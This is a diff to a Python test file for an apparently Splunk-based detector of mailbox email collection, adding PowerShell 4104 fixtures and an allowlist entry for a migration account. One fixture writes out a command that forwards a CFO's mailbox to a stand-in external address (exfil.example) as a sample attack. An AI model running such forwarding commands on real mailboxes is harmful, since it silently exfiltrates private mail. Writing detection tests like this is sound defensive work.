@@ -1,7 +1,8 @@
 """Each shape and source issue 12 added, through the built command over the chunked protocol:
-a finding, a miss that must stay a miss, and an allowlisted event, for classic WinEventLog,
-MSExchange Management CmdletLogs XML (EventID 1 and the failed EventID 6), message-tracking
-AGENTINFO rows, Microsoft Graph activity logs and Defender XDR advanced hunting."""
+a finding, a miss that must stay a miss, and an allowlisted event, for classic WinEventLog
+Security and PowerShell 4104, MSExchange Management CmdletLogs XML (EventID 1 and the failed
+EventID 6), message-tracking AGENTINFO rows, Microsoft Graph activity logs and Defender XDR
+advanced hunting."""
 
 import copy
 import csv
@@ -13,7 +14,7 @@ import pytest
 
 from tests.conftest import shared_datasets
 from tests.shared_samples import sekoia_record
-from tests.splunk_shapes import (classic_security_shapes, cloud_app_events_shapes, defender_device_shapes,
+from tests.splunk_shapes import (classic_powershell_shapes, classic_security_shapes, cloud_app_events_shapes, defender_device_shapes,
                                  exchange_cmdlet_xml_shapes)
 from tools.chunked_client import run, script_path
 
@@ -21,6 +22,7 @@ OUTLOOK = r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"
 ALLOWED_APP = "3c1d5e7f-0000-4000-8000-0000000a11ed"
 OTHER_APP = "9e8d7c6b-0000-4000-8000-00000000bad0"
 MIGRATION_CALLER = "contoso.local/Service Accounts/svc-migrate"
+MIGRATION_SCRIPT_USER = "CONTOSO\\svc-migrate"
 
 
 def _security(code, **fields):
@@ -99,6 +101,19 @@ def _cases():
         if status == "finding":
             for shape, converted in exchange_cmdlet_xml_shapes(record, event_code="6"):
                 cases.append(("CmdletLogs failed %s (%s)" % (name, shape), converted, "", ""))
+    # PowerShell 4104 in the classic rendering.
+    def script(user, text):
+        return {"_time": "1764216000", "sourcetype": "XmlWinEventLog", "EventCode": "4104", "Computer": "ws-042",
+                "UserID": user, "ScriptBlockText": text}
+    for name, record, status, rule in (
+            ("forwarding set by an admin", script("CONTOSO\\exadmin", 'Set-Mailbox -Identity cfo -ForwardingSmtpAddress '
+                                                  '"smtp:cfo@exfil.example"'), "finding", "t1114_003_mailbox_forwarding"),
+            ("forwarding set by the migration account", script(MIGRATION_SCRIPT_USER, 'Set-Mailbox -Identity sales '
+                                                               '-ForwardingSmtpAddress "smtp:sales@contoso-new.example"'),
+             "suppressed", ""),
+            ("mailbox listing", script("CONTOSO\\exadmin", "Get-Mailbox -ResultSize Unlimited | Select Name"), "", "")):
+        for shape, converted in classic_powershell_shapes(record):
+            cases.append(("classic 4104 %s (%s)" % (name, shape), converted, status, rule))
     # Message tracking AGENTINFO rows of the Transport Rule Agent.
     bcc = "S:TRA=ETR|ruleId=f124891a|st=10/9/2022 12:48:38 AM|action=BlindCopyTo|sev=1|mode=Enforce"
     cases += [
@@ -153,6 +168,7 @@ def _app_with_rows(built_app, tmp_path):
                                               "reason": "mail archiving product, CHG-1"}],
         "t1114_allowlist_accounts.csv": [
             {"account": MIGRATION_CALLER, "rules": "t1114_003_mailbox_forwarding", "reason": "tenant migration, CHG-2"},
+            {"account": MIGRATION_SCRIPT_USER, "rules": "t1114_003_mailbox_forwarding", "reason": "tenant migration, CHG-2"},
             {"account": "journal-feed@contoso.com", "rules": "t1114_003_transport_rule_agent_action",
              "reason": "journaling copy to the archive, CHG-3"}],
     }
@@ -188,7 +204,7 @@ def test_new_shapes_and_sources_through_the_command(built_app, tmp_path):
             problems.append("%s: suppressed without naming the row" % name)
     assert not problems, "\n".join(problems)
     shapes = {name.rsplit("(", 1)[-1].rstrip(")") for name, _, _, _ in cases if name.endswith(")")}
-    assert shapes == {"classic_fields", "classic_raw", "exchange_xml_fields", "exchange_xml_raw", "defender_raw",
+    assert shapes == {"classic_fields", "classic_raw", "classic_ps_fields", "classic_ps_raw", "exchange_xml_fields", "exchange_xml_raw", "defender_raw",
                       "defender_columns", "cloud_app_events_raw", "cloud_app_events_columns"}, shapes
     assert len(cases) >= 46
 
